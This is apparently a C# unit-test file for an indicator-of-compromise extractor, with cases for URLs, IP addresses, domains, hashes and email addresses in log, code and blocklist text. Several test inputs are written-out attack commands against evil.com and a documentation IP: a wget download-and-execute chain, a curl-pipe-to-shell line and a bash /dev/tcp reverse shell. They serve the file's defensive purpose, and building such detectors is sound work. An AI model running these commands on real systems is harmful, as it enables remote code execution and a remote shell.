using CsCheck;

namespace IocEnrich.Model.Tests;

/// <summary>Forms of logs, code, mail and blocklists in which indicators were missed, changed or made up.</summary>
public class TextAsItIsTests
{
    private static readonly string[] FileTops = ["sh", "rs", "so", "pm", "md", "mov", "ps", "zip", "py", "cab", "java"];

    private static readonly Gen<string> Word = Gen.Char["abcdefghijklmnopqrstuvwxyz"].Array[3, 10].Select(static chars => $"zq{new string(chars)}");

    [Theory]
    [InlineData("\"http://evil.com/a_\" and 'http://evil.com/b__' \"http://evil.com/~\"", "http://evil.com/a_", "http://evil.com/b__", "http://evil.com/~")]
    [InlineData("_http://evil.com/a_ ~~http://evil.com/b~~ +http://evil.com/c+", "http://evil.com/a", "http://evil.com/b", "http://evil.com/c")]
    [InlineData("http://evil.com/a;jsessionid=1A2B?x=1", "http://evil.com/a;jsessionid=1A2B?x=1")]
    [InlineData("see http://evil.com/0,1518,(druck)[1],00.html now", "http://evil.com/0,1518,(druck)[1],00.html")]
    [InlineData("wget http://evil.com/a.sh;chmod +x a.sh;./a.sh", "http://evil.com/a.sh")]
    [InlineData("curl http://evil.com/a&&sh a", "http://evil.com/a")]
    [InlineData("curl http://evil.com/a?b=1&&c=2", "http://evil.com/a?b=1&&c=2")]
    [InlineData("CN=http://evil.com/cps,O=Evil,C=US", "http://evil.com/cps")]
    [InlineData("https://evil.com/a[the page] and https://evil.com/b[Page].", "https://evil.com/a", "https://evil.com/b")]
    [InlineData("https://evil.com/a[0]?b[]=c", "https://evil.com/a[0]?b[]=c")]
    [InlineData("http://www.<redacted>.com/a http://www.[redacted].com http://${host}.com")]
    [InlineData("https://http://evil.com/a", "http://evil.com/a")]
    public void A_URL_ends_where_its_writer_ended_it(string text, params string[] values) => Gives(text, values);

    [Theory]
    [InlineData("FileVersion: 10.0.0.1 ProductVersion=\"10.0.0.2\" rv:10.0.0.3 <version>10.0.0.4</version> \"file_version\": \"1.2.3.4\"")]
    [InlineData("lib\\1.2.3.4\\lib.dll packages/lib-2/1.2.3.4/lib.jar pkg-1.2.3.4.tar.gz 1.2.3.4-1ubuntu2")]
    [InlineData("Serial Number: 03:a1:b2:c3:d4:e5:f6:07 and 03:a1:b2:c3:d4:e5:f6:07:18:29:3a:4b:5c:6d:7e:8f")]
    [InlineData("0.0.0.0/0.0.0.0:2181", "0.0.0.0", "0.0.0.0")]
    [InlineData("datanode.evil.com/198.51.100.7:50010", "datanode.evil.com", "198.51.100.7")]
    [InlineData("10.0.0.0/255.255.0.0")]
    [InlineData("v=spf1 ip4:209.85.128.0/17:c 198.51.100.0/24:443")]
    [InlineData("x aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.evil.com")]
    [InlineData("a.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.evil.com")]
    [InlineData("198.51.100.1-198.51.100.9 198.51.100.1-254", "198.51.100.1", "198.51.100.9", "198.51.100.1")]
    public void Numbers_that_count_something_else_are_no_address(string text, params string[] values) => Gives(text, values);

    [Theory]
    [InlineData("td.mobile { color: red } if (e.target && !el.style) x = t.name; .btn.mobile{a} a { } .name b")]
    [InlineData("import com.apple.X; new System.IO.File(System.IO) socket.AF_INET java.io.File(x) com.example.android.email org.foo.Bar")]
    [InlineData("host.name dns.question.name user.email process.name userInfo.name ASP.NET")]
    [InlineData("evil.com_backup x.target y.id")]
    [InlineData("<section id=\"method.lt\"> a.href = '#method.ge' {\">=\": operator.ge} logging.INFO, collections.abc")]
    [InlineData("rect.top + 1; menu.style.top = x; if (clientRect.top > e.top) e.target.parentElement.id = c.top")]
    [InlineData("See :func:`evil.help` and :class:`~evil.build`; import evil.audio\nfrom evil.cloud import x")]
    [InlineData("SELECT plant.id AS plant_id, plant.name AS plant_name FROM plant")]
    [InlineData("cmp=com.example.mm/.plugin.Main pkg=com.example.mm com.example.mm/com.example.mm.Main")]
    [InlineData("2017-05-16 00:00:31.092 2931 INFO nova.compute.claims [req-6a763803 - -] x\nINFO nova.compute.claims [-] x")]
    [InlineData("#separator \\x09\n#fields\tts\tuid\tsan.dns\tsan.email\tcmd.name\tbound.host\n1\t2\tevil.com", "evil.com")]
    public void Code_is_no_name(string text, params string[] values) => Gives(text, values);

    [Theory]
    [InlineData("it sent an Invoice_12.one and the attachment Invoice.one")]
    [InlineData("mimikatz\\.py|evil\\.ps1|run\\.sh")]
    [InlineData("\"HKCU\\\\Explorer\\\\FileExts\\\\.zip\\\\OpenWithList\" HKCU\\Explorer\\FileExts\\.search")]
    [InlineData("README.md\nCHANGELOG.md\nevil.md\n", "evil.md")]
    public void A_file_is_no_name(string text, params string[] values) => Gives(text, values);

    [Fact]
    public void A_name_alone_on_a_line_with_three_labels_or_with_a_path_is_one_whatever_its_ending() =>
        Gen.Select(Word, Word, Gen.OneOf(FileTops), Gen.OneOf("{0}\n", "# list\n{0}\nevil.com\n", "0.0.0.0 {0}\n", "||{0}^\n", "{0} # c2\n", "\"{0}\",\n", "see www2.{0} now", "see {0}/a.php now", "see {0}:8080/a now")).Sample(
            static (first, second, top, form) =>
            {
                string name = form.Contains("www2", StringComparison.Ordinal) || first == "www" ? $"{second}.{top}" : $"{first}{second}.{top}";
                string text = string.Format(System.Globalization.CultureInfo.InvariantCulture, form, name);
                return IndicatorExtractor.Extract(text).Any(found => found.Value.Contains(name, StringComparison.Ordinal)) ? true : throw new InvalidOperationException(text);
            },
            iter: 5_000);

    [Theory]
    [InlineData("evil.top = C2, www.evil.id, e.de, evil.style.de and rect.evil.top", "evil.top", "www.evil.id", "e.de", "evil.style.de", "rect.evil.top")]
    [InlineData("evil.id AS 64496, evil.de AS Example, login.secure.id, see the evil.cloud import list", "evil.id", "evil.de", "login.secure.id", "evil.cloud")]
    [InlineData("line.id\nstyle.top\nrect.gt\nscript.name\n", "line.id", "style.top", "rect.gt", "script.name")]
    [InlineData("www.style.top and box.top", "www.style.top", "box.top")]
    [InlineData("https://evil.com/?guid=3D52A1B2-C3D4-4E5F-8A9B-0C1D2E3F4A5B https://evil.com/?id=3D52A1B2C3D44E5F", "https://evil.com/?guid=3D52A1B2-C3D4-4E5F-8A9B-0C1D2E3F4A5B", "https://evil.com/?id=3D52A1B2C3D44E5F")]
    [InlineData("ERROR evil.claims [blocked] INFO evil.com [x]", "evil.claims", "evil.com")]
    [InlineData("\"CName=\\\\\\\\198.51.100.7; x=\\\"1\\\"\"", "198.51.100.7")]
    public void What_only_resembles_code_is_a_name(string text, params string[] values) => Gives(text, values);

    // Of 256 hashes one begins with what quoted-printable has for an equals sign.
    [Fact]
    public void A_hash_behind_an_equals_sign_is_found_whatever_it_begins_with() =>
        Gen.Select(Gen.OneOf(32, 40, 64), Gen.OneOf("3D", "3d", "20", "C3"), Gen.Int[0, int.MaxValue]).Sample(
            static (length, beginning, seed) =>
            {
                string hash = beginning + new string([.. Enumerable.Range(2, length - 2).Select(i => "0123456789ABCDEF"[((seed >> (i % 27)) + i) & 15])]);
                string text = $"SHA1={new string('A', 39)}1,MD5={new string('B', 31)}2,X={hash},IMPHASH={new string('C', 32)}";
                return IndicatorExtractor.Extract(text).Any(found => hash.Equals(found.Value, StringComparison.OrdinalIgnoreCase)) ? true : throw new InvalidOperationException(text);
            },
            iter: 2_000);

    [Theory]
    [InlineData("connection from 218.188.2.4 () at Sun Jun 26", "218.188.2.4")]
    [InlineData("bash -i >& /dev/tcp/198.51.100.7/443 0>&1 /dev/udp/evil.com/53", "198.51.100.7", "evil.com")]
    [InlineData("\\\\evil.com@SSL\\DavWWWRoot\\x \\\\198.51.100.7@80\\x \\\\evil.net@SSL@8443\\a \\\\198.51.100.8\\c$", "evil.com", "198.51.100.7", "evil.net", "198.51.100.8")]
    [InlineData("file://evil.com/share/a.exe file:///etc/evil.com", "evil.com")]
    [InlineData("IP 198.51.100.7.443 > 203.0.113.9.51234: Flags [S], 203.0.113.8.https < 198.51.100.9.5", "198.51.100.7", "203.0.113.9", "203.0.113.8", "198.51.100.9")]
    [InlineData("see hxxp:\\\\evil[.]com\\a\\b.exe now", "http://evil.com/a/b.exe")]
    [InlineData("访问198.51.100.7下载 地址evil.com下载", "198.51.100.7", "evil.com")]
    [InlineData("bounces+1234-bob=example.com@em.evil.com prvs=1a2b=bob@evil.com SRS0=Ab=CD=example.com=bob@relay.net mail=bob@evil.com", "bounces+1234-bob=example.com@em.evil.com", "prvs=1a2b=bob@evil.com", "SRS0=Ab=CD=example.com=bob@relay.net", "bob@evil.com")]
    [InlineData("ukeu3k5oycgaauneqgtnvselmt4yemvoilkln7jpvamvfx7dnkdq.b32.i2p", "ukeu3k5oycgaauneqgtnvselmt4yemvoilkln7jpvamvfx7dnkdq.b32.i2p")]
    [InlineData("spark://198.51.100.7:7077 hdfs://evil.com:8020/a foobar://evil.net/x", "198.51.100.7", "evil.com", "evil.net")]
    public void What_was_missed_is_found(string text, params string[] values) => Gives(text, values);

    private static void Gives(string text, string[] values) => Assert.Equal(values, IndicatorExtractor.Extract(text).Select(static found => found.Value));
}
